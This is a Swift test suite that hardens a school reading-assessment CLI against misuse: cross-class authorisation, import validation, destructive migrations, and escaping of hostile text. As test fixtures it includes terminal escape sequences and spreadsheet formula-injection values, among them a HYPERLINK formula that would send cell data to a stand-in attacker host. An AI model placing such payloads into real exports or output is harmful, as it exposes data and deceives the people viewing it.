import Foundation
import ReadmasterStore
import ReadmasterTestSupport
import Testing

/// What a hostile or careless user tried (issue 20), end to end on both backends: each
/// test failed before its fix.
@Suite("hardening: relations, imports, destructive migrations, hostile text and files")
struct HardeningTests {
    static func school(_ backend: Backend) throws -> CLI {
        let cli = try CLI.migrated(backend)
        try cli.run("reading", "import", BinaryRunner.packageRoot.appendingPathComponent("examples/passages").path)
        for (email, role) in [("a1@x.org", "admin"), ("a2@x.org", "admin"), ("t1@x.org", "teacher"), ("t2@x.org", "teacher"),
                              ("s1@x.org", "student"), ("s2@x.org", "student")] {
            let r = try cli.run("user", "create", "--email", email, "--role", role, "--first-name", "F", "--last-name", "L")
            guard r.status == 0 else { throw AudioFixtures.FixtureError("user create: \(r.stderr)") }
        }
        try cli.run("class", "create", "--name", "c1", "--teacher", "t1@x.org")
        try cli.run("class", "create", "--name", "c2", "--teacher", "t2@x.org")
        try cli.run("class", "add-student", "c1", "s1@x.org")
        try cli.run("class", "add-student", "c2", "s2@x.org")
        return cli
    }

    static func temp(_ name: String, _ contents: String? = nil) throws -> URL {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("readmaster-hardening-\(UUID().uuidString.prefix(8))")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let url = dir.appendingPathComponent(name)
        if let contents { try Data(contents.utf8).write(to: url) }
        return url
    }

    @Test("a teacher cannot take a student out of another teacher's class with --move, and so gains nothing", arguments: Backend.allCases)
    func moveNeedsTheSourceClass(backend: Backend) throws {
        let cli = try Self.school(backend)
        let moved = try cli.run("class", "add-student", "c1", "s2@x.org", "--move", as: "t1@x.org")
        #expect(moved.status == 77 && moved.stderr.contains("t1@x.org") && moved.stderr.contains("c2"), "\(moved.stderr)")
        #expect(try cli.run("user", "show", "s2@x.org", as: "t1@x.org").status == 77)
        #expect(try cli.run("user", "set-password", "s2@x.org", "--generate-password", as: "t1@x.org").status == 77)
        // The other class's teacher, or an admin, may move the student.
        #expect(try cli.run("class", "add-student", "c1", "s2@x.org", "--move", as: "t2@x.org").status == 77, "t2 does not teach c1")
        #expect(try cli.run("class", "add-student", "c1", "s2@x.org", "--move", as: "a1@x.org").status == 0)
        #expect(try cli.run("user", "show", "s2@x.org", as: "t1@x.org").status == 0)
        cli.db.drop()
    }

    @Test("an import row passes the same check as the single command: an admin cannot demote another admin by import",
          arguments: Backend.allCases)
    func importRowsAreAuthorised(backend: Backend) throws {
        let cli = try Self.school(backend)
        #expect(try cli.run("user", "update", "a2@x.org", "--first-name", "X", as: "a1@x.org").status == 77)
        let file = try Self.temp("users.csv", "email,role,first_name,last_name\nnew@x.org,student,N,W\na2@x.org,student,A,Two\n")
        let r = try cli.run("user", "import", file.path, as: "a1@x.org")
        #expect(r.status == 77 && r.stderr.contains("line 3") && r.stderr.contains("a2@x.org"), "\(r.stderr)")
        #expect(try cli.count("SELECT count(*) AS c FROM users WHERE email = 'a2@x.org' AND role = 'admin'") == 1)
        #expect(try cli.count("SELECT count(*) AS c FROM users WHERE email = 'new@x.org'") == 0, "all or nothing")
        // The database owner (no --as) may.
        #expect(try cli.run("user", "import", file.path).status == 0)
        cli.db.drop()
    }

    @Test("migrate down refuses to drop tables holding rows without --force, and says what would go", arguments: Backend.allCases)
    func destructiveMigrations(backend: Backend) throws {
        let cli = try Self.school(backend)
        let n = Int64(Migrations.all(for: .sqlite).count)
        let refused = try cli.run("migrate", "down", "\(n)")
        #expect(refused.status == 1 && refused.stderr.contains("users (6 rows)") && refused.stderr.contains("--force"), "\(refused.stderr)")
        #expect(try cli.count("SELECT count(*) AS c FROM schema_migrations") == n, "nothing reverted")
        #expect(try cli.count("SELECT count(*) AS c FROM users") == 6)
        // On a terminal it asks: "n" changes nothing, "y" reverts. script(1) gives the
        // command a terminal.
        // Down to migration 2 (readings) inclusive.
        for (answer, status, applied) in [("n", Int32(1), n), ("y", Int32(0), Int64(1))] {
            let r = try Shell.inTerminal("'\(BinaryRunner.binary)' migrate down \(n - 1) --db '\(cli.db.url)'", input: answer)
            let text = r.stdout
            #expect(r.status == status && text.contains("Delete them? [y/N]") && text.contains("readings (3 rows)"), "\(answer): \(text)")
            #expect(try cli.count("SELECT count(*) AS c FROM schema_migrations") == applied)
        }
        #expect(try cli.run("migrate", "up").status == 0)
        // Nothing to lose goes without --force: the newest migrations (6 changes an
        // index, 5's table is empty).
        #expect(try cli.run("migrate", "down", "2").status == 0)
        #expect(try cli.run("migrate", "up").status == 0)
        #expect(try cli.run("migrate", "redo").status == 0)
        let forced = try cli.run("migrate", "down", "\(n)", "--force")
        #expect(forced.status == 0, "\(forced.stderr)")
        #expect(try cli.count("SELECT count(*) AS c FROM schema_migrations") == 0)
        cli.db.drop()
    }

    @Test("control characters in names are escaped in tables and messages, exact in JSON and CSV", arguments: Backend.allCases)
    func controlCharacters(backend: Backend) throws {
        let cli = try CLI.migrated(backend)
        let title = "\u{1B}]0;pwned\u{07}Eve", clear = "\u{1B}[2J\u{9B}31m"
        #expect(try cli.run("user", "create", "--email", "e@x.org", "--role", "student", "--first-name", title, "--last-name", clear).status == 0)
        let table = try cli.run("user", "list")
        #expect(!table.stdout.contains("\u{1B}") && !table.stdout.contains("\u{07}") && !table.stdout.contains("\u{9B}"))
        #expect(table.stdout.contains("\\u001B]0;pwned\\u0007Eve") && table.stdout.contains("\\u009B31m"))
        let record = try cli.run("user", "show", "e@x.org")
        #expect(!record.stdout.contains("\u{1B}") && record.stdout.contains("\\u001B[2J"))
        let echoed = try cli.run("user", "show", "\u{1B}[2Jnobody@x.org")
        #expect(echoed.status == 65 && !echoed.stderr.contains("\u{1B}") && echoed.stderr.contains("\\u001B[2Jnobody"))
        let json = try cli.json("user", "show", "e@x.org") as? [String: Any]
        #expect(json?["first_name"] as? String == title && json?["last_name"] as? String == clear)
        #expect(try cli.run("user", "list", "--format", "csv").stdout.contains(title))
        cli.db.drop()
    }

    @Test("cells a spreadsheet would run as formulas get a leading apostrophe in CSV and TSV; --raw-csv writes them as stored",
          arguments: Backend.allCases)
    func formulaCells(backend: Backend) throws {
        let cli = try CLI.migrated(backend)
        let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
        #expect(try cli.run("user", "create", "--email", "f@x.org", "--role", "student", "--first-name", link, "--last-name", "+SUM(1;2)",
                            "--grade", "3").status == 0)
        try cli.run("user", "create", "--email", "g@x.org", "--role", "student", "--first-name", "@cmd", "--last-name", "-2+3")
        let csv = try cli.run("user", "list", "--format", "csv").stdout
        #expect(csv.contains("\"'=HYPERLINK(\"\"http") && csv.contains("'+SUM(1;2)") && csv.contains("'@cmd") && csv.contains("'-2+3"), "\(csv)")
        #expect(!csv.contains(",=") && !csv.contains(",+") && !csv.contains(",@"))
        #expect(csv.contains(",3,"), "numbers are not text cells: \(csv)")
        let tsv = try cli.run("user", "list", "--format", "tsv").stdout
        #expect(tsv.contains("\t'+SUM(1;2)"))
        let raw = try cli.run("user", "list", "--format", "csv", "--raw-csv").stdout
        #expect(raw.contains(",+SUM(1;2),") && raw.contains("\"=HYPERLINK("))
        let json = try cli.json("user", "show", "f@x.org") as? [String: Any]
        #expect(json?["first_name"] as? String == link)
        cli.db.drop()
    }

    @Test("a NUL byte in an import field is bad input naming file, line and field; nothing is written", arguments: Backend.allCases)
    func nulBytes(backend: Backend) throws {
        let cli = try CLI.migrated(backend)
        let file = try Self.temp("nul.csv", "email,role,first_name,last_name\nok@x.org,student,Ok,Fine\nn@x.org,student,Na\u{0}me,L\n")
        let r = try cli.run("user", "import", file.path)
        #expect(r.status == 65 && r.stderr.contains("line 3, field first_name") && r.stderr.contains("NUL"), "\(r.stderr)")
        #expect(try cli.count("SELECT count(*) AS c FROM users") == 0)
        let ndjson = try cli.run("user", "import", "-", "--input-format", "ndjson",
                                 stdin: #"{"email": "j@x.org", "role": "student", "first_name": "A\u0000B", "last_name": "L"}"# + "\n")
        #expect(ndjson.status == 65 && ndjson.stderr.contains("line 1, field first_name"), "\(ndjson.stderr)")
        #expect(try cli.count("SELECT count(*) AS c FROM users") == 0)
        cli.db.drop()
    }

    @Test("a duplicated header, a repeated JSON key, and a JSON number or array where text belongs are bad input; long values are cut in messages",
          arguments: Backend.allCases)
    func importLeniency(backend: Backend) throws {
        let cli = try CLI.migrated(backend)
        let dup = try Self.temp("dup.csv", "email,role,first_name,last_name,email\na@x.org,student,A,B,b@x.org\n")
        let d = try cli.run("user", "import", dup.path)
        #expect(d.status == 65 && d.stderr.contains("line 1, field 'email'") && d.stderr.contains("columns 1 and 5"), "\(d.stderr)")
        for (json, field, kind) in [(#"{"email": "n@x.org", "role": "student", "first_name": 42, "last_name": "L"}"#, "first_name", "a number"),
                                    (#"{"email": "n@x.org", "role": "student", "first_name": "A", "last_name": ["L"]}"#, "last_name", "an array"),
                                    (#"{"email": "n@x.org", "email": "m@x.org", "role": "student", "first_name": "A", "last_name": "L"}"#, "email", "twice")] {
            let r = try cli.run("user", "import", "-", "--input-format", "ndjson", stdin: json + "\n")
            #expect(r.status == 65 && r.stderr.contains("line 1, field") && r.stderr.contains(field) && r.stderr.contains(kind), "\(r.stderr)")
        }
        // A number where a number belongs is fine.
        let ok = try cli.run("user", "import", "-", "--input-format", "ndjson",
                             stdin: #"{"email": "n@x.org", "role": "student", "first_name": "A", "last_name": "L", "grade_level": 3}"# + "\n")
        #expect(ok.status == 0, "\(ok.stderr)")
        let long = String(repeating: "x", count: 5000) + "@"
        let l = try cli.run("user", "import", "-", "--input-format", "ndjson",
                            stdin: #"{"email": "\#(long)", "role": "student", "first_name": "A", "last_name": "L"}"# + "\n")
        #expect(l.status == 65 && !l.stderr.contains(String(repeating: "x", count: 100)) && l.stderr.contains("5001 characters"), "\(l.stderr.prefix(300))")
        #expect(try cli.count("SELECT count(*) AS c FROM users") == 1)
        cli.db.drop()
    }

    @Test("--rejects never overwrites the input, reports write errors, and is readable by its owner only", arguments: Backend.allCases)
    func rejectsFile(backend: Backend) throws {
        let cli = try CLI.migrated(backend)
        let text = "email,role,first_name,last_name,password\nok@x.org,student,Ok,Fine,secret-password\nbad,student,B,C,another-password\n"
        let input = try Self.temp("users.csv", text)
        let same = try cli.run("user", "import", input.path, "--continue-on-error", "--rejects", input.path)
        #expect(same.status == 2 && same.stderr.contains("is the input file"), "\(same.stderr)")
        #expect(try String(contentsOf: input, encoding: .utf8) == text)
        // /dev/full fails every write with ENOSPC (checked to be the device: a careless
        // writer running as root can replace it with a file).
        let device = (try? FileManager.default.attributesOfItem(atPath: "/dev/full")[.type] as? FileAttributeType) == .typeCharacterSpecial
        try #require(device, "/dev/full is not the full device on this machine")
        let full = try cli.run("user", "import", input.path, "--continue-on-error", "--rejects", "/dev/full")
        #expect(full.status == 1 && full.stderr.contains("cannot write the rejects file /dev/full") && !full.stderr.contains("see /dev/full"), "\(full.stderr)")
        #expect(try cli.count("SELECT count(*) AS c FROM users") == 0, "nothing claimed, nothing written")
        let rejects = input.deletingLastPathComponent().appendingPathComponent("rejects.csv")
        let good = try cli.run("user", "import", input.path, "--continue-on-error", "--rejects", rejects.path)
        #expect(good.status == 3 && good.stderr.contains("see \(rejects.path)"))
        let mode = try FileManager.default.attributesOfItem(atPath: rejects.path)[.posixPermissions] as? Int
        #expect(mode == 0o600)
        #expect(try String(contentsOf: rejects, encoding: .utf8).contains("another-password"))
        cli.db.drop()
    }

    @Test("a student's first answer to a quiz question is final until a teacher resets it", arguments: Backend.allCases)
    func quizAnswersAreFinal(backend: Backend) throws {
        let cli = try Self.school(backend)
        let added = try cli.run("quiz", "add", "The Garden Snail", "--question", "When do snails eat?", "--option", "a=at night",
                                "--option", "b=at noon", "--option", "c=never", "--correct", "a", "--json")
        let id = try #require((try JSONSerialization.jsonObject(with: Data(added.stdout.utf8)) as? [String: Any])?["id"] as? String)
        #expect(try cli.run("quiz", "answer", id, "b", as: "s1@x.org").stdout.contains("false"))
        let again = try cli.run("quiz", "answer", id, "a", as: "s1@x.org")
        #expect(again.status == 65 && again.stderr.contains("answers are final") && !again.stdout.contains("true"), "\(again.stderr)")
        #expect(try cli.run("quiz", "reset", "The Garden Snail", "--student", "s1@x.org", as: "s1@x.org").status == 77)
        #expect(try cli.run("quiz", "reset", "The Garden Snail", "--student", "s1@x.org", as: "t2@x.org").status == 77, "not t2's student")
        let reset = try cli.run("quiz", "reset", "The Garden Snail", "--student", "s1@x.org", "--json", as: "t1@x.org")
        let resetRecord = try JSONSerialization.jsonObject(with: Data(reset.stdout.utf8)) as? [String: Any]
        #expect(reset.status == 0 && resetRecord?["answers_reset"] as? Int == 1, "\(reset.stdout) \(reset.stderr)")
        #expect(try cli.run("quiz", "answer", id, "a", as: "s1@x.org").stdout.contains("true"))
        #expect(try cli.count("SELECT count(*) AS c FROM student_quiz_answers") == 1)
        cli.db.drop()
    }

    @Test("FIFOs, sockets and devices among recordings are error records; nothing blocks the batch", arguments: Backend.allCases)
    func specialFiles(backend: Backend) throws {
        let cli = try Self.school(backend)
        let fifo = try Self.temp("reading.wav")
        #expect(mkfifo(fifo.path, 0o600) == 0)
        // Run under timeout(1): before the fix this hung for ever.
        let r = try BinaryRunner.run(["assess", "analyze", fifo.path, "/dev/zero", "--reading", "The Garden Snail", "--student", "s1@x.org",
                                      "--enqueue", "--format", "ndjson", "--db", cli.db.url], environment: [:], timeout: 120)
        let records = r.stdout.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        #expect(records.count == 2 && records.allSatisfy { $0["status"] as? String == "error" && $0["code"] as? String == "not_a_file" },
                "\(r.status) \(r.stdout) \(r.stderr)")
        #expect(records.first?["message"] as? String == "\(fifo.path): is a FIFO (named pipe), not a recording file; only regular files are read")
        #expect(try cli.count("SELECT count(*) AS c FROM assessments") == 0)
        // Graded at once (the engine opens the file itself): this is what hung.
        let graded = try BinaryRunner.run(["assess", "analyze", fifo.path, "--reading", "The Garden Snail", "--student", "s1@x.org", "--save",
                                           "--format", "ndjson", "--db", cli.db.url], timeout: 300)
        let record = try JSONSerialization.jsonObject(with: Data((graded.stdout.split(separator: "\n").first ?? "").utf8)) as? [String: Any]
        #expect((record?["error"] as? [String: Any])?["code"] as? String == "not_a_file", "\(graded.status) \(graded.stdout) \(graded.stderr)")
        cli.db.drop()
    }

    @Test("a WAV whose header promises more audio than the file holds is corrupt_audio, like a truncated FLAC", arguments: Backend.allCases)
    func truncatedWAV(backend: Backend) throws {
        let cli = try Self.school(backend)
        let whole = try AudioFixtures.speak("The garden snail eats at night.", name: "hardening-snail")
        let bytes = try Data(contentsOf: whole)
        let cut = try Self.temp("cut.wav")
        try bytes.prefix(bytes.count * 6 / 10).write(to: cut)
        let r = try BinaryRunner.run(["assess", "analyze", cut.path, "--reading", "The Garden Snail", "--student", "s1@x.org", "--save",
                                      "--format", "ndjson", "--db", cli.db.url], timeout: 600)
        let record = try JSONSerialization.jsonObject(with: Data((r.stdout.split(separator: "\n").first ?? "").utf8)) as? [String: Any]
        let error = record?["error"] as? [String: Any]
        #expect(error?["code"] as? String == "corrupt_audio", "\(r.stdout) \(r.stderr)")
        #expect((error?["message"] as? String)?.contains("the header promises") == true)
        #expect(try cli.count("SELECT count(*) AS c FROM assessment_results") == 0)
        cli.db.drop()
    }
}

@Suite("hardening: a busy SQLite database")
struct BusySQLiteTests {
    @Test("a write waits for another writer up to the busy timeout, then exits 69 saying so; it succeeds when the writer finishes in time")
    func busy() throws {
        let cli = try CLI.migrated(.sqlite)
        let holder = try cli.db.connect()
        try holder.executeScript("BEGIN IMMEDIATE")
        try holder.execute("DELETE FROM users")
        let started = Date()
        let r = try BinaryRunner.run(["user", "create", "--email", "b@x.org", "--role", "student", "--first-name", "B", "--last-name", "C",
                                      "--db", cli.db.url], environment: ["READMASTER_BUSY_TIMEOUT": "2"])
        #expect(r.status == 69 && r.stderr.contains("busy") && r.stderr.contains("another writer"), "\(r.status) \(r.stderr)")
        #expect(Date().timeIntervalSince(started) >= 1.9, "it waited the timeout")
        // Released while the second one waits: it goes through.
        let waiting = Process()
        waiting.executableURL = URL(fileURLWithPath: BinaryRunner.binary)
        waiting.arguments = ["user", "create", "--email", "b@x.org", "--role", "student", "--first-name", "B", "--last-name", "C", "-q",
                             "--db", cli.db.url]
        waiting.environment = ProcessInfo.processInfo.environment.merging(["READMASTER_BUSY_TIMEOUT": "20"]) { $1 }
        waiting.standardOutput = FileHandle.nullDevice
        waiting.standardError = FileHandle.nullDevice
        try waiting.run()
        Thread.sleep(forTimeInterval: 1)
        #expect(waiting.isRunning, "it is waiting for the lock")
        try holder.executeScript("COMMIT")
        holder.close()
        waiting.waitUntilExit()
        #expect(waiting.terminationStatus == 0)
        cli.db.drop()
    }
}
